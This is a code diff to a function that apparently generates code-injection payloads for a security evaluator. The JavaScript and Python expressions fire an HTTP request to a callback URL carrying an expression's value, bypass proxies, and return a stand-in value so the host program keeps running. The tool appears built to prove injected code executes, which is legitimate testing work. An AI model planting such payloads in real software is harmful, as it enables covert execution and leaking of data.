@@ -90,7 +90,13 @@ def included_code(language: str, product: str, url: str, second: str) -> str:
     value of `second` (the evaluator proves it ran even where the value is not shown). The
     request goes to auditor's callback server on 127.0.0.1, bypassing any proxy."""
     if language in ("javascript", "typescript"):
-        return f"(typeof require=='function'&&require('http').get('{url}'+({second})).on('error',()=>0),{product})"
+        # node sends the request only after the current code returns, so the value must not end
+        # the process first (a handler that uses it as a child process, `ev.stdout.on(...)`,
+        # would throw): it is a stand-in that any property or call returns itself, and that
+        # reads as the product wherever it becomes text or a number.
+        value = (f"(()=>{{const v={product};const p=new Proxy(function(){{}},{{get:(t,k)=>k===Symbol.toPrimitive?"
+                 f"()=>v:k==='then'?undefined:p,apply:()=>p}});return p}})()")
+        return f"(typeof require=='function'&&require('http').get('{url}'+({second})).on('error',()=>0),{value})"
     if language == "python":
         lib = "__import__('urllib.request').request"
         return f"({lib}.build_opener({lib}.ProxyHandler({{}})).open('{url}'+str({second}),timeout=3),{product})[1]"
